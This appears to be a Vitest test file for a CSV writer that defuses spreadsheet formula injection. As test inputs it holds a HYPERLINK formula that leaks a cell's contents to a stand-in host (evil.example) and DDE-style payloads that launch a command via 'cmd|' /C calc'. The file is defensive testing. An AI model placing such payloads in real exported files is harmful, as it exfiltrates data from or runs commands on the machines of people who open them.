import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, looksLikeFormula } from '../../src/files/csv-writer.js';

describe('formula-safe CSV cells (OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['＠SUM(A1)', `"'＠SUM(A1)"`],
  ])('defuses %j', (value, cell) => {
    expect(looksLikeFormula(value)).toBe(true);
    expect(csvCell(value)).toBe(cell);
  });

  it.each([
    ['+15551234567', '"+15551234567"'],
    ['-12.5', '"-12.5"'],
    ['Alice', '"Alice"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['', '""'],
    [null, '""'],
    [undefined, '""'],
    [42, '"42"'],
    ['a=b', '"a=b"'],
  ])('keeps %j as it is, quoted', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes a line of quoted cells', () => {
    expect(csvLine([1, 'phone', '=1+1'])).toBe(`"1","phone","'=1+1"\n`);
  });
});
